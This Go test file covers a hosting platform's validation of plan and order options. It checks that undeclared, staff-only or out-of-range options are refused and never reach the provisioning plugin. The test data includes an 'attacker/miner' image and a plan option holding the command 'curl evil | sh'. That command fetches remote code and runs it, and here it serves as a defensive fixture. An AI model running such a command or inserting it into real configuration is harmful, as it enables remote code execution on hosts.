package billing_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ezscale/platform/core/apperr"
	"github.com/ezscale/platform/core/billing"
	"github.com/ezscale/platform/core/catalog"
	"github.com/ezscale/platform/core/database"
	"github.com/ezscale/platform/core/database/databasetest"
	"github.com/ezscale/platform/core/services"
	"github.com/ezscale/platform/sdk"
)

// optionRefusal is an error's code, reason and each field with its message.
type optionRefusal struct {
	Code   apperr.Code
	Reason string
	Fields map[string]string
}

func optionRefusalOf(err error) optionRefusal {
	e, ok := apperr.As(err)
	if !ok {
		return optionRefusal{Reason: "not an apperr: " + err.Error()}
	}
	r := optionRefusal{Code: e.Code, Reason: e.Reason, Fields: map[string]string{}}
	for _, f := range e.Fields {
		r.Fields[f.Field] = f.Message
	}
	return r
}

// offerPlan creates a testprov plan with size small that offers customers a
// hostname and a location in fra or nyc (fra by default).
func (tb *testBundle) offerPlan(t testing.TB, slug string) *catalog.Plan {
	t.Helper()
	p, err := tb.cat.CreatePlan(tb.ctx, catalog.PlanInput{Slug: slug, Name: "Plan " + slug, ServiceType: "vps", Currency: "USD", MonthlyPrice: 999,
		Plugin: "testprov", PluginOptions: map[string]string{"size": "small", "location": "fra"},
		OrderOptions: map[string][]string{"hostname": {}, "location": {"fra", "nyc"}}})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestOrderRefusesOptionsTheCustomerMayNotChoose: customer options are
// checked against the plugin's declaration and the plan's offer, so a key
// the plugin does not declare (docker_image), one staff set on plans
// (size, extra_ipv4), one the plan does not offer, a value not offered and
// a value outside the declared pattern are each refused, 422 naming
// options.<key>; no service, invoice or charge is made.
func TestOrderRefusesOptionsTheCustomerMayNotChoose(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		tb := setup(t, db, setupOpts{})
		acc := tb.account(t)
		offers := tb.offerPlan(t, "offers")
		bare := tb.plan(t, "bare", 999, map[string]string{"size": "small"})
		tb.credit(t, acc, 5000)

		_, err := tb.b.Order(tb.ctx, acc, billing.OrderInput{PlanID: offers.ID, Options: map[string]string{
			"docker_image": "attacker/miner", "size": "huge", "extra_ipv4": "4", "location": "sgp", "hostname": "-bad-",
		}})
		want := optionRefusal{Code: apperr.Unprocessable, Reason: "option_refused", Fields: map[string]string{
			"options.docker_image": "is not an option of this plan (accepted: hostname, location)",
			"options.size":         "is set by the plan and cannot be chosen",
			"options.extra_ipv4":   "is set by the plan and cannot be chosen",
			"options.location":     "must be one of fra, nyc",
			"options.hostname":     "must match [a-z0-9]([a-z0-9.-]*[a-z0-9])?",
		}}
		if diff := cmp.Diff(want, optionRefusalOf(err)); diff != "" {
			t.Errorf("order with forbidden options (-want +got):\n%s", diff)
		}
		_, err = tb.b.Order(tb.ctx, acc, billing.OrderInput{PlanID: bare.ID, Options: map[string]string{"hostname": "web1"}})
		want = optionRefusal{Code: apperr.Unprocessable, Reason: "option_refused", Fields: map[string]string{
			"options.hostname": "this plan offers no choice of hostname",
		}}
		if diff := cmp.Diff(want, optionRefusalOf(err)); diff != "" {
			t.Errorf("order choosing what the plan does not offer (-want +got):\n%s", diff)
		}

		svcs, err := tb.b.Services(tb.ctx, billingFilter(acc))
		if err != nil || len(svcs) != 0 {
			t.Errorf("services after refused orders: %d, %v", len(svcs), err)
		}
		if invs := tb.invoices(t, billing.InvoiceFilter{AccountID: acc}); len(invs) != 0 {
			t.Errorf("invoices after refused orders: %d", len(invs))
		}
		if bal, err := tb.b.Ledger().Balance(tb.ctx, acc, "USD"); err != nil || bal.Amount != 5000 {
			t.Errorf("balance after refused orders: %d, %v; want 5000", bal.Amount, err)
		}
	})
}

// TestValidChoiceReachesTheBackendAndNothingUndeclared: a customer's
// hostname and offered location are accepted and reach the plugin with the
// plan's and add-ons' staff options; keys stored before the rules (an
// undeclared docker_image, a customer "size") never reach it.
func TestValidChoiceReachesTheBackendAndNothingUndeclared(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		tb := setup(t, db, setupOpts{})
		acc := tb.account(t)
		plan := tb.offerPlan(t, "offers")
		ips := tb.addon(t, "ips", 300, 4, []string{plan.ID}, map[string]string{"extra_ipv4": "1"})
		tb.credit(t, acc, 5000)
		res, err := tb.b.Order(tb.ctx, acc, billing.OrderInput{PlanID: plan.ID, Addons: []billing.AddonChoice{{AddonID: ips.ID}},
			Options: map[string]string{"hostname": "web1.example.net", "location": "nyc"}})
		if err != nil {
			t.Fatal(err)
		}
		svc := tb.waitService(t, res.Service.ID, services.StatusActive)
		want := map[string]string{"size": "small", "location": "nyc", "hostname": "web1.example.net", "extra_ipv4": "1"}
		if diff := cmp.Diff(want, tb.backend(t, svc.ID).Options); diff != "" {
			t.Errorf("options the backend got (-want +got):\n%s", diff)
		}

		// Rows written before options were checked: whatever they hold,
		// the plugin is told only what its declaration and the plan allow.
		if _, err := db.NewRaw(`UPDATE services SET options = ? WHERE id = ?`,
			`{"hostname":"web1.example.net","location":"nyc","docker_image":"attacker/miner","size":"huge"}`, svc.ID).Exec(tb.ctx); err != nil {
			t.Fatal(err)
		}
		if _, err := db.NewRaw(`UPDATE plans SET plugin_options = ? WHERE id = ?`,
			`{"size":"small","location":"fra","startup":"curl evil | sh"}`, plan.ID).Exec(tb.ctx); err != nil {
			t.Fatal(err)
		}
		svc, err = tb.b.Service(tb.ctx, acc, svc.ID)
		if err != nil {
			t.Fatal(err)
		}
		ref, _, err := tb.provisioning.ProvisionerRef(tb.ctx, svc.Service)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, ref.GetPlanOptions()); diff != "" {
			t.Errorf("options in the plugin's view (-want +got):\n%s", diff)
		}
	})
}

// TestPlanSaveChecksOptionsAgainstTheDeclaration: staff plan and add-on
// options are checked when saved: keys the plugin does not declare, keys
// customers choose, values out of range, offers of staff keys or of values
// the declaration refuses, and a default outside the offer are each
// refused, 422 naming the field, and nothing is stored.
func TestPlanSaveChecksOptionsAgainstTheDeclaration(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		tb := setup(t, db, setupOpts{})
		in := catalog.PlanInput{Slug: "bad", Name: "Bad", ServiceType: "vps", Currency: "USD", MonthlyPrice: 999, Plugin: "testprov",
			PluginOptions: map[string]string{"extra_ipv4": "16", "docker_image": "x", "hostname": "web1", "location": "sgp", "fail_kind": "maybe"},
			OrderOptions:  map[string][]string{"size": {}, "location": {"fra", "mars"}, "hostname": {"ok", "ok"}}}
		_, err := tb.cat.CreatePlan(tb.ctx, in)
		want := optionRefusal{Code: apperr.Unprocessable, Reason: "option_refused", Fields: map[string]string{
			"plugin_options.extra_ipv4":   "must be from 0 to 4",
			"plugin_options.docker_image": "is not an option of the testprov plugin (accepted: size, fail_create, fail_kind, fail_retry_after, fail_suspend, extra_ipv4, location, install)",
			"plugin_options.hostname":     "is chosen by customers at order, not set by staff (offer it in order_options)",
			"plugin_options.fail_kind":    "must be one of invalid, unavailable, capacity, not_found",
			"plugin_options.location":     "is the default of a choice offered to customers, so must be one of the values in order_options.location",
			"order_options.size":          "is set by staff, not chosen by customers",
			"order_options.location[1]":   "must be one of fra, nyc, sgp",
			"order_options.hostname[1]":   "must be a value, listed once",
		}}
		if diff := cmp.Diff(want, optionRefusalOf(err)); diff != "" {
			t.Errorf("CreatePlan (-want +got):\n%s", diff)
		}
		if plans, err := tb.cat.Plans(tb.ctx, false); err != nil || len(plans) != 0 {
			t.Errorf("plans after a refused save: %d, %v", len(plans), err)
		}

		good := tb.offerPlan(t, "good")
		upd := catalog.PlanInput{Slug: "good", Name: "Good", ServiceType: "vps", Currency: "USD", MonthlyPrice: 999, Plugin: "testprov",
			PluginOptions: map[string]string{"extra_ipv4": "-1"}}
		_, err = tb.cat.UpdatePlan(tb.ctx, good.ID, upd)
		want = optionRefusal{Code: apperr.Unprocessable, Reason: "option_refused", Fields: map[string]string{"plugin_options.extra_ipv4": "must be from 0 to 4"}}
		if diff := cmp.Diff(want, optionRefusalOf(err)); diff != "" {
			t.Errorf("UpdatePlan (-want +got):\n%s", diff)
		}
		if p, err := tb.cat.Plan(tb.ctx, good.ID); err != nil || p.PluginOptions != good.PluginOptions || p.OrderOptions != good.OrderOptions {
			t.Errorf("plan after a refused update: %+v, %v", p, err)
		}

		_, err = tb.cat.CreateAddon(tb.ctx, catalog.AddonInput{Slug: "swap", Name: "Swap", Currency: "USD", MonthlyPrice: 100,
			PluginOptions: map[string]string{"swap": "-1", "extra_ipv4": "9"}})
		want = optionRefusal{Code: apperr.Unprocessable, Reason: "option_refused", Fields: map[string]string{
			"plugin_options.swap":       "is not an option of the testprov plugin (accepted: size, fail_create, fail_kind, fail_retry_after, fail_suspend, extra_ipv4, location, install)",
			"plugin_options.extra_ipv4": "must be from 0 to 4",
		}}
		if diff := cmp.Diff(want, optionRefusalOf(err)); diff != "" {
			t.Errorf("CreateAddon (-want +got):\n%s", diff)
		}
		if as, err := tb.cat.Addons(tb.ctx, false); err != nil || len(as) != 0 {
			t.Errorf("add-ons after a refused save: %d, %v", len(as), err)
		}
	})
}

// TestOptionsCheckedAgainstTheStoredDeclaration: with the plugin not
// running, plans and orders are checked against the declaration it last
// gave; a plugin that never described itself cannot take options (503),
// though a plan without options is saved.
func TestOptionsCheckedAgainstTheStoredDeclaration(t *testing.T) {
	t.Parallel()
	databasetest.Each(t, func(t *testing.T, db *database.DB) {
		tb := setup(t, db, setupOpts{noHost: true, noJobs: true})
		in := catalog.PlanInput{Slug: "vps", Name: "VPS", ServiceType: "vps", Currency: "USD", MonthlyPrice: 999, Plugin: "offline",
			PluginOptions: map[string]string{"package_id": "2"}}
		_, err := tb.cat.CreatePlan(tb.ctx, in)
		if diff := cmp.Diff(optionRefusal{Code: apperr.Unavailable, Reason: "plugin_unavailable", Fields: map[string]string{}}, optionRefusalOf(err)); diff != "" {
			t.Errorf("plan of a never-described plugin (-want +got):\n%s", diff)
		}
		if _, err := tb.cat.CreatePlan(tb.ctx, catalog.PlanInput{Slug: "plain", Name: "Plain", ServiceType: "vps", Currency: "USD", MonthlyPrice: 0, Plugin: "offline"}); err != nil {
			t.Errorf("plan without options of a never-described plugin: %v", err)
		}

		err = tb.cat.RecordOptions(tb.ctx, "offline", "2.0.0", sdk.Options{
			sdk.IntOption("package_id", "package").OnPlan().AtLeast(1),
			sdk.StringOption("hostname", "hostname").AtOrder().MaxLen(63),
		})
		if err != nil {
			t.Fatal(err)
		}
		d, err := tb.cat.OptionDeclaration(tb.ctx, "offline")
		if err != nil || d.Live || d.Version != "2.0.0" || len(d.Options) != 2 {
			t.Fatalf("stored declaration: %+v, %v", d, err)
		}
		in.OrderOptions = map[string][]string{"hostname": {}}
		plan, err := tb.cat.CreatePlan(tb.ctx, in)
		if err != nil {
			t.Fatalf("plan checked against the stored declaration: %v", err)
		}
		acc := tb.account(t)
		_, err = tb.b.Order(tb.ctx, acc, billing.OrderInput{PlanID: plan.ID, Options: map[string]string{"package_id": "9"}})
		want := optionRefusal{Code: apperr.Unprocessable, Reason: "option_refused", Fields: map[string]string{"options.package_id": "is set by the plan and cannot be chosen"}}
		if diff := cmp.Diff(want, optionRefusalOf(err)); diff != "" {
			t.Errorf("order checked against the stored declaration (-want +got):\n%s", diff)
		}
	})
}
